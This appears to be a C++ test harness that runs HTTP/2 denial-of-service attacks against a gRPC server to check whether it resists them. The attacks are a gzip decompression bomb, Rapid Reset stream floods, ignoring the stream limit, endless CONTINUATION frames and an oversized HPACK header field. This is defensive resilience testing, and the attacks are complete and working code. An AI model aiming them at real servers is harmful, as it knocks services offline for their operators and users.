#include "tests/testing/http2_attacks.h"

#include <zlib.h>

#include <algorithm>
#include <memory>
#include <utility>

#include "absl/time/clock.h"
#include "tests/testing/http2_peer.h"

namespace cimd::testing {
namespace {

// This method needs no access token.
constexpr std::string_view kPath = "/grpc.health.v1.Health/Check";
// Frames are collected up to this size before they are sent.
constexpr size_t kBatchBytes = size_t{64} << 10;
constexpr size_t kMaxFrameBytes = 16384;
// A field "x" whose announced value has about 2 GiB (RFC 7541 sections 5.1 and 6.2.2).
constexpr std::string_view kEndlessField("\0\1x\x7f\x80\xff\xff\xff\x7", 9);

std::string Gzip(size_t zeros) {
  z_stream stream{};
  deflateInit2(&stream, Z_BEST_COMPRESSION, Z_DEFLATED, 15 + 16, 8, Z_DEFAULT_STRATEGY);
  std::string input(size_t{1} << 20, '\0');
  std::string compressed;
  std::string chunk(size_t{64} << 10, '\0');
  int result = Z_OK;
  for (size_t done = 0; result != Z_STREAM_END;) {
    if (stream.avail_in == 0 && done < zeros) {
      stream.next_in = reinterpret_cast<Bytef*>(input.data());
      stream.avail_in = static_cast<uInt>(input.size());
      done += input.size();
    }
    stream.next_out = reinterpret_cast<Bytef*>(chunk.data());
    stream.avail_out = static_cast<uInt>(chunk.size());
    result = deflate(&stream, done < zeros ? Z_NO_FLUSH : Z_FINISH);
    compressed.append(chunk, 0, chunk.size() - stream.avail_out);
  }
  deflateEnd(&stream);
  return compressed;
}

std::string OpenStream(uint32_t stream, bool end_stream) {
  return Frame(FrameType::kHeaders, kEndHeaders | (end_stream ? kEndStream : 0), stream, CallHeaders(kPath));
}

// Sends one request and waits for the end of its stream.
void SendCompressedRequest(Http2Peer& peer, const AttackLimits& limits, AttackResult& result) {
  const std::string message = Gzip(size_t{1000} * (size_t{512} << 10));
  std::string request(1, '\1');
  for (const int shift : {24, 16, 8, 0}) request.push_back(static_cast<char>(message.size() >> shift));
  request += message;
  result.streams = 1;
  const absl::Time until = absl::Now() + limits.time;
  result.stopped =
      !peer.Send(Frame(FrameType::kHeaders, kEndHeaders, 1, CallHeaders(kPath, {{"grpc-encoding", "gzip"}})));
  // The initial flow-control window plus the window updates that the server sends.
  size_t window = 65535;
  size_t connection_window = 65535;
  bool over = result.stopped;
  while (!over && absl::Now() < until) {
    const size_t count = std::min({request.size(), window, connection_window, kMaxFrameBytes});
    if (count > 0) {
      const bool last = count == request.size();
      over = !peer.Send(Frame(FrameType::kData, last ? kEndStream : 0, 1, std::string_view(request).substr(0, count)));
      request.erase(0, count);
      window -= count;
      connection_window -= count;
      if (!over && !request.empty() && std::min(window, connection_window) > 0) continue;
    }
    absl::StatusOr<Http2Peer::Frame> frame = peer.Receive(until - absl::Now());
    if (!frame.ok()) break;
    if (frame->type == FrameType::kWindowUpdate && frame->payload.size() == 4) {
      size_t more = 0;
      for (const char byte : frame->payload) more = more << 8 | static_cast<uint8_t>(byte);
      (frame->stream == 0 ? connection_window : window) += more & 0x7fffffff;
    }
    const bool ends =
        frame->type == FrameType::kRstStream ||
        ((frame->type == FrameType::kHeaders || frame->type == FrameType::kData) && (frame->flags & kEndStream) != 0);
    over = frame->type == FrameType::kGoAway || (frame->stream == 1 && ends);
  }
  result.stopped = over;
}

// Sends the output of `next` until the server stops the connection or a limit is reached.
template <typename Next>
void SendForever(Http2Peer& peer, const AttackLimits& limits, AttackResult& result, Next next) {
  const absl::Time until = absl::Now() + limits.time;
  while (peer.sent_bytes() < limits.bytes && absl::Now() < until) {
    std::string batch;
    while (batch.size() < kBatchBytes) batch += next();
    if (!peer.Send(batch)) {
      result.stopped = true;
      return;
    }
  }
  // All bytes are sent: wait for the server's reaction.
  while (absl::Now() < until) {
    absl::StatusOr<Http2Peer::Frame> frame = peer.Receive(std::min(absl::Seconds(1), until - absl::Now()));
    if (frame.ok()) continue;
    result.stopped = absl::IsUnavailable(frame.status());
    return;
  }
}

// Sends a header block that starts with the headers of a call and `begin`, then sends CONTINUATION frames with `more`.
void SendHeadersForever(Http2Peer& peer, const AttackLimits& limits, AttackResult& result, uint32_t stream,
                        std::string_view begin, const std::string& more) {
  result.stopped = !peer.Send(Frame(FrameType::kHeaders, 0, stream, CallHeaders(kPath).append(begin)));
  if (result.stopped) return;
  SendForever(peer, limits, result, [&] { return Frame(FrameType::kContinuation, 0, stream, more); });
}

}  // namespace

const std::vector<NamedAttack>& Attacks() {
  static const auto* const kAttacks =
      new std::vector<NamedAttack>{{"compressed_request", Attack::kCompressedRequest},
                                   {"rapid_reset", Attack::kRapidReset},
                                   {"ignored_stream_limit", Attack::kIgnoredStreamLimit},
                                   {"endless_headers", Attack::kEndlessHeaders},
                                   {"endless_header_field", Attack::kEndlessHeaderField}};
  return *kAttacks;
}

absl::StatusOr<AttackResult> RunAttack(Attack attack, const AttackTarget& target, const AttackLimits& limits) {
  absl::StatusOr<std::unique_ptr<Http2Peer>> connected = Http2Peer::Connect(target.address, target.tls);
  if (!connected.ok()) return connected.status();
  Http2Peer& peer = **connected;
  AttackResult result;
  uint32_t stream = 1;
  const auto next_stream = [&] {
    ++result.streams;
    return std::exchange(stream, stream + 2);
  };
  switch (attack) {
    case Attack::kCompressedRequest:
      SendCompressedRequest(peer, limits, result);
      break;
    case Attack::kRapidReset:
      SendForever(peer, limits, result, [&] {
        const uint32_t id = next_stream();
        return OpenStream(id, /*end_stream=*/true) + Frame(FrameType::kRstStream, 0, id, std::string("\0\0\0\x8", 4));
      });
      break;
    case Attack::kIgnoredStreamLimit:
      SendForever(peer, limits, result, [&] { return OpenStream(next_stream(), /*end_stream=*/false); });
      break;
    case Attack::kEndlessHeaders: {
      const std::string fields =
          HeaderBlock({{"x-padding", std::string(8000, 'a')}, {"y-padding", std::string(8000, 'b')}});
      SendHeadersForever(peer, limits, result, next_stream(), "", fields);
      break;
    }
    case Attack::kEndlessHeaderField:
      SendHeadersForever(peer, limits, result, next_stream(), kEndlessField, std::string(kMaxFrameBytes, 'a'));
      break;
  }
  result.sent_bytes = peer.sent_bytes();
  return result;
}

}  // namespace cimd::testing
